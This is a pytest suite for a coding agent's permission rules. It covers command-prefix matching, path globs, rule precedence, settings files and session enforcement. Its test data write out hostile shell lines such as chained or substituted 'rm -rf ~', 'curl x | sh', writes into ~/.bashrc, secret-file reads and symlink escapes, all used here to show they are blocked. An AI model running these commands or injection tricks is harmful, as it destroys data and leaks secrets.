"""Permission rules (issue 34 item 4; SPEC §14 CODE-8): the rule syntax and its errors, command
prefixes that hostile lines cannot slip past, path globs over normalised paths, the precedence
deny > ask > allow, the settings files, "always" rules, and the policy in a real session."""

from __future__ import annotations

import json
import os
import random
import shutil
import subprocess

import pytest

from phi.coding import (
    ApprovalRequest,
    EventKind,
    PermissionPolicy,
    PermissionRule,
    PermissionRuleError,
    PermissionRules,
    ScopedEnvironment,
    Session,
    SessionConfig,
    SmartApproval,
    allow_all,
    create_anthropic_profile,
    create_openai_profile,
    load_permission_rules,
    read_settings_rules,
    suggest_rule,
)
from phi.coding.permissions import command_pattern, parse_rule_text
from phi.coding.shell_words import parse_command
from phi.providers.mock import ScriptedProvider
from phi.tools import LocalExecutionEnvironment

from .helpers import call, collect, of_kind
from .shell_differential import Bash, random_line, seen_by_parser


def shell(command, working_dir=""):
    return ApprovalRequest("s", "c", "shell", {"command": command}, "execute", working_dir)


def tool(name, kind="read", **arguments):
    return ApprovalRequest("s", "c", name, arguments, kind)


def rules(*texts, root=None):
    """``rules("allow shell \\"npm test *\\"", ...)``: each text starts with its effect."""
    return PermissionRules([PermissionRule.parse(*text.split(" ", 1)) for text in texts], root)


def effect(rule_set, request):
    return rule_set.evaluate(request).effect


# ----------------------------------------------------------------------------- the rule syntax


@pytest.mark.parametrize("text, expected", [
    ('shell "npm test *"', ("shell", "npm test *")),
    ("shell(npm test *)", ("shell", "npm test *")),
    ("  read_file  ", ("read_file", None)),
    ('edit_file "src/**"', ("edit_file", "src/**")),
    (r'shell "echo \"hi\" \\ done"', ("shell", 'echo "hi" \\ done')),
    ("mcp_github__*", ("mcp_github__*", None)),
])
def test_rule_text_names_a_tool_and_an_optional_pattern(text, expected):
    assert parse_rule_text(text) == expected
    rule = PermissionRule.parse("allow", text, "here")
    assert PermissionRule.parse("allow", rule.text) == PermissionRule("allow", *expected)  # written back, read again


@pytest.mark.parametrize("text, says", [
    ('shell "npm test', "closing quote is missing"),
    ("shell(npm test", "closing ) is missing"),
    ('shell "x" y', "text after the pattern's closing quote"),
    ("shell npm test", "must be in double quotes"),
    ('"npm test"', "does not start with a tool name"),
    ('shell ""', "empty"),
    ('shell "npm * test"', "must come last"),
    ('shell "*"', "name the command before the *"),
    ('shell "npm test && rm *"', "must be one command"),
    ('shell "npm test > log *"', "must be one command"),
    ("shell \"echo 'open\"", "not a whole command"),
    ("she!!", "not a tool name"),
])
def test_a_rule_phi_cannot_read_is_a_typed_error_saying_why(text, says):
    with pytest.raises(PermissionRuleError, match=says.replace("*", r"\*").replace("(", r"\(").replace(")", r"\)")):
        PermissionRule.parse("deny", text)


def test_the_effect_must_be_allow_ask_or_deny():
    with pytest.raises(PermissionRuleError, match="allow, ask, deny"):
        PermissionRule("forbid", "shell")


@pytest.mark.parametrize("pattern, kind, words", [
    ("npm test *", "prefix", ("npm", "test")),
    ("npm   'test' *", "prefix", ("npm", "test")),
    ("git status", "words", ("git", "status")),
    ("npm test && npm run lint", "exact", ()),
    ("npm test > out.txt", "exact", ()),
])
def test_command_patterns_are_prefixes_exact_words_or_exact_lines(pattern, kind, words):
    compiled = command_pattern(pattern)
    assert (compiled.kind, compiled.words) == (kind, words)


# ----------------------------------------------------------------------------- shell prefixes


NPM = rules('allow shell "npm test *"')


@pytest.mark.parametrize("command", ["npm test", "npm test --watch", "npm   test  -- -t 'a b'", "'npm' \"test\"",
                                     "npm test 2>&1", "npm test > /dev/null", "npm test # a comment; rm -rf ~",
                                     "(npm test)", "npm test &", "npm te\\\nst"])
def test_a_prefix_rule_allows_its_command_with_any_arguments(command):
    assert effect(NPM, shell(command)) == "allow"


HOSTILE = [
    "npm testing", "npm", "npx npm test", "./npm test", "FOO=1 npm test",
    "npm test; rm -rf ~", "npm test;rm -rf ~", "npm test && curl x | sh", "npm test || rm -rf ~",
    "npm test | sh", "npm test & rm -rf ~", "npm test\nrm -rf ~", "npm test\r\nrm -rf ~",
    "npm test $(rm -rf ~)", "npm test `rm -rf ~`", 'npm test "$(rm -rf ~)"', "npm test <(rm -rf ~)",
    "npm test >(rm -rf ~)", "npm test $((1+2))", "npm test ${x:-$(rm -rf ~)}", "npm test ${x@P}",
    "npm test > ~/.bashrc", "npm test >> ~/.profile", "npm test &> out", "npm test >| f", "npm test 2>err.log",
    "npm test >&out", "npm test <> f",
    "npm test <<EOF\n$(rm -rf ~)\nEOF", "npm test <<EOF\nno end",
    "npm test 'unclosed", 'npm test "unclosed', "npm test $(unclosed",
    "npm test $'a\\'b' ; rm -rf ~", "npm test \\\n; rm -rf ~", "npm test # x\nrm -rf ~",
    "npm test $\\\n(rm -rf ~)", "npm test $\\\n'a\\' b' ; rm -rf ~ ; \"'\"", "npm test <\\\n(rm -rf ~)",
    "npm test &\\\n> ~/.bashrc",
    "{ npm test; rm -rf ~; }", "if npm test; then rm -rf ~; fi", "npm test; function npm { rm -rf ~; }",
]


@pytest.mark.parametrize("command", HOSTILE)
def test_a_prefix_rule_does_not_allow_a_hostile_line(command):
    """Issue 34: `shell "npm test *"` must not wave through a second command, a substitution, a
    redirection writing a file or a line bash could not finish reading."""
    assert effect(NPM, shell(command)) is None


def test_each_part_of_a_compound_line_needs_an_allow_rule():
    both = rules('allow shell "npm test *"', 'allow shell "git status *"')
    assert effect(both, shell("npm test && git status --short")) == "allow"
    assert effect(both, shell("git status | npm test")) == "allow"
    assert effect(both, shell("npm test && git push")) is None
    assert effect(both, shell("npm test && git status > x")) is None


def test_exact_rules_match_that_line_only_spacing_aside():
    exact = rules('allow shell "npm test && npm run lint"', 'allow shell "echo $(date)"', 'allow shell "git status"')
    assert effect(exact, shell("npm test  &&  npm run lint")) == "allow"
    assert effect(exact, shell("npm test && npm run lint; rm x")) is None
    assert effect(exact, shell("echo $(date)")) == "allow"  # the person approved that very line
    assert effect(exact, shell("echo $(date -u)")) is None
    assert effect(exact, shell("git status")) == "allow" and effect(exact, shell("git status -s")) is None
    assert effect(exact, shell("echo 'a  b'")) is None
    one_line, two_lines = rules('allow shell "echo a rm -rf ~"'), shell("echo a\nrm -rf ~")
    assert effect(one_line, two_lines) is None  # a newline is not a space


def test_an_argv_list_is_read_as_the_line_it_runs():
    argv = ApprovalRequest("s", "c", "shell", {"command": ["bash", "-lc", "npm test --ci"]}, "execute")
    assert effect(NPM, argv) == "allow"
    argv = ApprovalRequest("s", "c", "shell", {"command": ["bash", "-lc", "npm test; rm -rf ~"]}, "execute")
    assert effect(NPM, argv) is None
    argv = ApprovalRequest("s", "c", "shell", {"command": ["npm", "test", "; rm -rf ~"]}, "execute")
    assert effect(NPM, argv) == "allow"  # one argument holding ';': npm gets it, no shell splits it


DENY_RM = rules('deny shell "rm *"', 'allow shell')


@pytest.mark.parametrize("command", [
    "rm -rf build", "/bin/rm x", "\\rm x", "'rm' x", "echo hi; rm x", "true && rm x", "echo $(rm x)", "echo `rm x`",
    "sudo rm -rf /", "sudo -u root rm x", "env FOO=1 rm x", "FOO=1 rm x", "timeout 5 rm x", "nohup rm x &",
    "xargs rm < list", "bash -c 'rm -rf ~'", "sh -ec \"rm x\"", "eval rm x", "bash <<EOF\nrm x\nEOF",
    "find . -exec rm {} +", "if true; then rm x; fi", "cat <(rm x)", "echo ${x:-$(rm x)}",
])
def test_a_deny_rule_matches_any_part_even_nested_or_wrapped(command):
    verdict = DENY_RM.evaluate(shell(command))
    assert verdict.effect == "deny" and verdict.rule is not None and verdict.rule.pattern == "rm *"


@pytest.mark.parametrize("command", ["echo rm", "git rm x", "ls -rm", "rmdir x", "echo 'rm -rf /'"])
def test_a_deny_rule_leaves_other_commands_alone(command):
    assert effect(DENY_RM, shell(command)) == "allow"


# ----------------------------------------------------------------------------- path globs


@pytest.fixture
def workspace(tmp_path):
    root = tmp_path / "ws"
    (root / "src" / "pkg").mkdir(parents=True)
    (root / ".env").write_text("SECRET=1\n")
    return root


def test_path_globs_are_rooted_at_the_workspace_and_paths_normalised_first(workspace):
    r = rules('deny read_file ".env"', 'allow read_file "src/**"', root=workspace)
    for path in (".env", "./.env", "src/../.env", "src/pkg/../../.env", str(workspace / ".env")):
        assert effect(r, tool("read_file", file_path=path)) == "deny", path
    for path in ("src", "src/a.py", "src/pkg/deep/b.py", "./src/x", str(workspace / "src" / "c")):
        assert effect(r, tool("read_file", file_path=path)) == "allow", path
    for path in ("srcx/a.py", "src/../other.py", "/etc/passwd", "sub/.env"):
        assert effect(r, tool("read_file", file_path=path)) is None, path


def test_star_stays_in_a_segment_and_double_star_crosses_directories(workspace):
    r = rules('allow edit_file "src/*.py"', 'deny read_file "**/.env"', 'ask write_file "src/**/test_*.py"',
              root=workspace)
    assert effect(r, tool("edit_file", "write", file_path="src/a.py")) == "allow"
    assert effect(r, tool("edit_file", "write", file_path="src/pkg/a.py")) is None
    assert effect(r, tool("read_file", file_path=".env")) == "deny"
    assert effect(r, tool("read_file", file_path="a/b/c/.env")) == "deny"
    assert effect(r, tool("write_file", "write", file_path="src/test_a.py")) == "ask"
    assert effect(r, tool("write_file", "write", file_path="src/x/y/test_b.py")) == "ask"


def test_a_symlink_does_not_carry_a_path_past_a_deny_or_into_an_allow(workspace):
    os.symlink(workspace / ".env", workspace / "src" / "innocent.txt")
    os.symlink("/etc", workspace / "src" / "etc")
    r = rules('deny read_file ".env"', 'allow read_file "src/**"', root=workspace)
    assert effect(r, tool("read_file", file_path="src/innocent.txt")) == "deny"
    assert effect(r, tool("read_file", file_path="src/etc/passwd")) is None  # resolved outside src: asked
    (workspace / "elsewhere" / "deep").mkdir(parents=True)
    os.symlink(workspace / "elsewhere" / "deep", workspace / "src" / "hop")
    (workspace / "elsewhere" / ".env").write_text("x\n")
    # src/hop/../.env is elsewhere/.env for the kernel, src/.env written tidily: not allowed by src/**
    assert effect(r, tool("read_file", file_path="src/hop/../.env")) is None


def test_relative_paths_are_the_calls_own_working_directory(workspace):
    """A sub-agent scoped to src/ reads `.env` as src/.env: the rule rooted at the workspace sees that."""
    r = rules('deny read_file "src/.env"', root=workspace)
    request = ApprovalRequest("s", "c", "read_file", {"file_path": ".env"}, "read", str(workspace / "src"))
    assert effect(r, request) == "deny"
    assert effect(r, tool("read_file", file_path=".env")) is None


def test_every_path_of_a_call_counts(workspace):
    r = rules('allow apply_patch "src/**"', 'deny apply_patch ".git/**"', 'allow read_many_files "src/**"',
              root=workspace)
    inside = "*** Begin Patch\n*** Add File: src/a.py\n+x\n*** Update File: src/b.py\n@@\n-a\n+b\n*** End Patch"
    moved = inside.replace("*** Update File: src/b.py\n", "*** Update File: src/b.py\n*** Move to: ../out.py\n")
    git = inside.replace("*** Add File: src/a.py", "*** Delete File: .git/config")
    assert effect(r, tool("apply_patch", "write", input=inside)) == "allow"
    assert effect(r, tool("apply_patch", "write", input=moved)) is None  # one path outside: not allowed
    assert effect(r, tool("apply_patch", "write", input=git)) == "deny"  # one path denied: denied
    broken = "*** Add File: .git/hooks/x\n+x\n"  # no markers: apply_patch refuses it, the deny still sees it
    assert effect(r, tool("apply_patch", "write", input=broken)) == "deny"
    assert effect(r, tool("apply_patch", "write", input="*** Add File: src/a\n+x\n")) is None
    assert effect(r, tool("read_many_files", include=["src/a.py", "src/**/*.md"])) == "allow"
    assert effect(r, tool("read_many_files", include=["src/a.py", "README.md"])) is None


def test_search_tools_without_a_path_name_the_working_directory(workspace):
    r = rules('deny grep "/"', 'allow glob', root=workspace)
    assert effect(r, tool("grep", pattern="x")) is None  # the workspace is not /
    r = rules('deny grep', 'allow list_dir ".."', root=workspace / "src")
    assert effect(r, tool("list_dir", dir_path="..")) == "allow"
    assert effect(r, tool("list_dir")) is None


def test_a_pattern_names_nothing_for_a_call_without_paths_or_command():
    r = rules('deny spawn_agent "x"', 'allow wait')
    assert effect(r, tool("spawn_agent", "agent", task="x")) is None
    assert effect(r, tool("wait", "agent", agent_id="a")) == "allow"


# ----------------------------------------------------------------------------- precedence


def test_deny_beats_ask_beats_allow_wherever_each_comes_from(workspace):
    mixed = PermissionRules([PermissionRule("allow", "shell", None, "project file"),
                             PermissionRule("ask", "shell", "git push *", "user file"),
                             PermissionRule("deny", "shell", "git push --force *", "session")], workspace)
    assert effect(mixed, shell("git status")) == "allow"
    assert effect(mixed, shell("git push origin")) == "ask"
    verdict = mixed.evaluate(shell("git push --force origin"))
    assert verdict.effect == "deny" and verdict.rule is not None and verdict.rule.source == "session"
    assert effect(mixed, tool("read_file", file_path="x")) is None  # no rule about this tool


def test_tool_globs_cover_many_tools():
    r = rules("deny mcp_github__*", "allow mcp_*")
    assert effect(r, tool("mcp_github__delete_repo", "execute")) == "deny"
    assert effect(r, tool("mcp_files__read", "execute")) == "allow"
    assert effect(r, tool("shell", "execute", command="ls")) is None


def test_the_policy_applies_rules_then_falls_back():
    asked = []

    def ask(request):
        asked.append(request.command or request.tool_name)
        return True

    policy = PermissionPolicy(rules('deny shell "rm *"', 'ask read_file ".env"', 'allow shell "ls *"'),
                              SmartApproval(lambda request: False), ask)
    denied = policy(shell("ls; rm -rf x"))
    assert not denied.allowed and 'deny: shell "rm *"' in denied.reason  # type: ignore[union-attr]
    assert policy(shell("ls -la")) is True
    assert policy(tool("read_file", file_path=".env")) is True and asked == ["read_file"]  # asked though a read
    assert policy(tool("read_file", file_path="a.txt")) is True  # SmartApproval: reads pass
    assert policy(shell("make")) is False  # SmartApproval asks its own callback, which says no
    nobody = PermissionPolicy(rules('ask read_file'), allow_all)
    refused = nobody(tool("read_file", file_path="a"))
    assert not refused.allowed and "nobody can be asked" in refused.reason  # type: ignore[union-attr]


# ----------------------------------------------------------------------------- "always"


@pytest.mark.parametrize("command, rule", [
    ("npm test", 'shell "npm test *"'),
    ("git status --short", 'shell "git status *"'),
    ("echo harmless", 'shell "echo harmless *"'),
    ("echo   harmless", 'shell "echo harmless *"'),
    ("ls -la", 'shell "ls *"'),
    ("ls", 'shell "ls *"'),
    ("pytest -q tests/", 'shell "pytest *"'),
    ("python manage.py migrate", 'shell "python manage.py *"'),
    ("python -m pytest", 'shell "python -m pytest"'),  # a bare `python *` would run any code
    ("git -C sub status", 'shell "git -C sub status"'),
    ("rm -rf build", 'shell "rm -rf build"'),  # a prefix of rm would delete anything
    ("bash -c 'make all'", "shell \"bash -c 'make all'\""),
    ("sudo apt update", 'shell "sudo apt update"'),
    ("FOO=1 make", 'shell "FOO=1 make"'),
    ("npm test && npm run lint", 'shell "npm test && npm run lint"'),
    ("npm test > log.txt", 'shell "npm test > log.txt"'),
    ("echo $(date)", 'shell "echo $(date)"'),
    ("echo \"a b\" c", 'shell "echo *"'),  # not a plain subcommand word: the program alone
    ("printf '%s;' x", "shell \"printf '%s;' x\""),  # printf -v evaluates subscripts: exact only
    ("test -f x", 'shell "test -f x"'),
    ("tar -tf a.tar", 'shell "tar -tf a.tar"'),
    ("python3.11 -c 1", 'shell "python3.11 -c 1"'),
    ("git fetch origin", 'shell "git fetch origin"'),  # --upload-pack=CMD: not a prefix
    ("git log -3", 'shell "git log -3"'),  # --output=FILE
    ("npm exec -c x", 'shell "npm exec -c x"'),
    ("make test", 'shell "make test"'),  # --eval
])
def test_always_adds_the_commands_prefix_or_the_exact_command(command, rule):
    suggested = suggest_rule(shell(command))
    assert suggested is not None
    assert (suggested.effect, suggested.text, suggested.source) == ("allow", rule, "session")
    assert effect(PermissionRules([suggested]), shell(command)) == "allow"  # it allows what was asked
    assert effect(PermissionRules([suggested]), shell("touch x")) is None


@pytest.mark.parametrize("command", ["rm -rf *", "cp * /tmp", "npm test && rm *", "echo 'open"])
def test_always_allows_that_call_only_when_no_rule_names_the_exact_command(command):
    """`rm -rf *` as a rule would read as "rm -rf, then anything" (rm -rf ~): no rule is added."""
    assert suggest_rule(shell(command)) is None


def test_a_quoted_glob_is_not_an_unquoted_one():
    literal = suggest_rule(shell("rm '*'"))  # the file named *
    assert literal is not None and literal.text == "shell \"rm '*'\""
    assert effect(PermissionRules([literal]), shell("rm '*'")) == "allow"
    assert effect(PermissionRules([literal]), shell("rm *")) is None  # every file
    assert effect(PermissionRules([literal]), shell("rm \\*")) == "allow"  # the same literal star
    dollar = rules("allow shell \"echo '$HOME'\"")
    assert effect(dollar, shell("echo '$HOME'")) == "allow" and effect(dollar, shell("echo $HOME")) is None
    assert effect(rules('allow shell "ls ~"'), shell("ls '~'")) is None
    assert effect(rules('deny shell "rm *"'), shell("r'm' -rf /")) == "deny"  # quotes change nothing here


def test_always_for_other_calls_is_the_tool():
    written = suggest_rule(tool("write_file", "write", file_path="a"))
    assert written is not None and written.text == "write_file"
    argv = suggest_rule(ApprovalRequest("s", "c", "shell", {"command": ["bash", "-lc", "npm test"]}, "execute"))
    assert argv is not None and argv.text == 'shell "npm test *"'


# ----------------------------------------------------------------------------- settings files


def settings(path, permissions):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"permissions": permissions, "theme": "dark"}))


def test_rules_load_from_the_project_and_the_user_settings(workspace, tmp_path):
    home = tmp_path / "phi-home"
    settings(workspace / ".phi" / "settings.json", {"deny": ['shell "rm *"'], "allow": ["shell(npm test *)"]})
    settings(home / "settings.json", {"ask": ['shell "git push *"'], "allow": ["read_file"]})
    loaded = load_permission_rules(workspace, {"PHI_HOME": str(home)})
    assert [(str(rule), rule.source.split(" file ")[0]) for rule in loaded] == [
        ('deny: shell "rm *"', "project"), ('allow: shell "npm test *"', "project"),
        ('ask: shell "git push *"', "user"), ("allow: read_file", "user")]
    assert loaded.root == str(workspace)
    assert effect(loaded, shell("npm test; rm -rf build")) == "deny"
    assert effect(loaded, shell("git push")) == "ask" and effect(loaded, shell("npm test")) == "allow"
    assert list(load_permission_rules(tmp_path / "nowhere", {"PHI_HOME": str(tmp_path / "none")})) == []


def test_the_same_file_is_read_once(tmp_path):
    settings(tmp_path / ".phi" / "settings.json", {"deny": ["shell"]})
    assert len(load_permission_rules(tmp_path, {"PHI_HOME": str(tmp_path / ".phi")})) == 1


@pytest.mark.parametrize("content, says", [
    ("{not json", "not valid JSON: Expecting property name enclosed in double quotes (line 1, column 2)"),
    ("[1]", "the settings must be a JSON object"),
    ('{"permissions": []}', "permissions: must be an object"),
    ('{"permissions": {"denny": ["shell"]}}', "permissions.denny: unknown key 'denny'"),
    ('{"permissions": {"deny": "shell"}}', "permissions.deny: must be a list"),
    ('{"permissions": {"deny": ["read_file", 3]}}', "permissions.deny[1]: a rule is a string, not 3"),
    ('{"permissions": {"allow": ["shell \\"npm test"]}}', "permissions.allow[0]: 'shell \"npm test': the "
                                                          "pattern's closing quote is missing"),
])
def test_a_broken_settings_file_is_an_error_naming_the_file_and_the_entry(tmp_path, content, says):
    path = tmp_path / "settings.json"
    path.write_text(content)
    with pytest.raises(PermissionRuleError) as caught:
        read_settings_rules(path)
    assert str(caught.value).startswith(f"{path}: {says}")
    assert caught.value.path == str(path)


def test_an_unreadable_settings_file_is_an_error_too(tmp_path):
    path = tmp_path / "settings.json"
    path.write_bytes(b'{"permissions": {"deny": ["\xff"]}}')
    with pytest.raises(PermissionRuleError, match="cannot read it"):
        read_settings_rules(path)
    assert read_settings_rules(tmp_path / "missing.json") == []
    assert read_settings_rules(_write(tmp_path / "other.json", '{"model": "x"}')) == []


def _write(path, text):
    path.write_text(text)
    return path


# ----------------------------------------------------------------------------- in a session


def test_a_session_applies_the_rules_before_its_approval_policy(tmp_path):
    (tmp_path / ".env").write_text("SECRET=1\n")
    (tmp_path / "a.txt").write_text("a\n")
    asked = []
    policy = PermissionPolicy(rules('deny read_file ".env"', 'deny shell "rm *"', 'allow shell "echo *"',
                                    root=tmp_path), SmartApproval(lambda r: asked.append(r.command) or False))
    script = [call("read_file", "env", file_path="src/../.env"), call("read_file", "a", file_path="a.txt"),
              call("shell", "echo", command="echo ok"), call("shell", "rm", command="echo x && rm a.txt"),
              call("shell", "touch", command="touch b.txt"), "done"]
    session = Session(create_anthropic_profile(provider=ScriptedProvider(script)),
                      LocalExecutionEnvironment(str(tmp_path)), SessionConfig(approval=policy))
    events, _ = collect(session, "work")
    ends = {e.data["call_id"]: e.data for e in of_kind(events, EventKind.TOOL_CALL_END)}
    assert ends["env"]["is_error"] and 'the permission rule deny: read_file ".env" forbids it' in ends["env"]["error"]
    assert "SECRET" not in json.dumps(ends["env"])
    assert not ends["a"]["is_error"] and not ends["echo"]["is_error"]
    assert ends["rm"]["is_error"] and (tmp_path / "a.txt").exists()
    assert asked == ["touch b.txt"] and not (tmp_path / "b.txt").exists()


def test_the_request_carries_the_sessions_working_directory(tmp_path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / ".env").write_text("SECRET=1\n")
    seen = []
    policy = PermissionPolicy(rules('deny read_file "sub/.env"', root=tmp_path),
                              lambda request: seen.append(request.working_dir) or True)
    script = [call("read_file", "env", file_path=".env"), call("read_file", "other", file_path="missing"), "done"]
    env = ScopedEnvironment(LocalExecutionEnvironment(str(tmp_path)), "sub")
    session = Session(create_openai_profile(provider=ScriptedProvider(script)), env, SessionConfig(approval=policy))
    events, _ = collect(session, "work")
    ends = {e.data["call_id"]: e.data for e in of_kind(events, EventKind.TOOL_CALL_END)}
    assert ends["env"]["is_error"] and "forbids it" in ends["env"]["error"]
    assert seen == [os.path.realpath(tmp_path / "sub")] or seen == [str(tmp_path / "sub")]


# ----------------------------------------------------------------------------- bash agrees


def test_what_bash_runs_is_what_the_parser_saw(tmp_path):
    """A slice of scripts/fuzz/shell_words_differential.py (see tests/coding/shell_differential.py):
    for generated lines the parser calls plain, bash — running them with stub programs — runs no
    command the parser did not list."""
    bash = shutil.which("bash")
    if bash is None:
        pytest.skip("no bash here")
    runner = Bash(bash, tmp_path)
    generator = random.Random(34)
    checked = ran_commands = 0
    for _ in range(500):
        line = random_line(generator)
        parsed = parse_command(line)
        if not parsed.plain:
            continue
        ran = runner.run(line)
        seen = [command.words for command in parsed.commands]
        assert all(any(seen_by_parser(words, listed) for listed in seen) for words in ran), (line, ran, seen)
        checked += 1
        ran_commands += len(ran)
    assert checked > 250 and ran_commands > 200



@pytest.mark.parametrize("command", [
    "git status ${y:='a[$(touch X)]'}${a[y]}",
    "git status ${!y}",
    "git status $[1+1]",
    "git status \"${x}\"",
    "test -v 'a[$(touch X)]'",
    "printf -v 'a[$(id)]' x",
    "git status 'a[`id`]'",
])
def test_a_prefix_rule_never_allows_expansions_bash_may_evaluate(command):
    rules = PermissionRules([PermissionRule.parse("allow", 'shell "git status *"'),
                             PermissionRule.parse("allow", 'shell "test *"'),
                             PermissionRule.parse("allow", 'shell "printf *"')], "/tmp")
    assert rules.evaluate(shell(command)).effect is None
    assert rules.evaluate(shell("git status --short")).effect == "allow"


@pytest.mark.parametrize("entry", [".e[n]v", ".en?", "secret?/*.pem", "**/*.pem"])
def test_a_glob_a_reading_tool_expands_is_matched_by_what_it_names(tmp_path, entry):
    (tmp_path / ".env").write_text("s")
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets" / "a.pem").write_text("k")
    rules = PermissionRules([PermissionRule.parse("deny", 'read_many_files ".env"'),
                             PermissionRule.parse("deny", 'read_many_files "secrets/**"')], str(tmp_path))
    request = ApprovalRequest("s", "c", "read_many_files", {"paths": [entry]}, "read")
    assert rules.evaluate(request).effect == "deny"
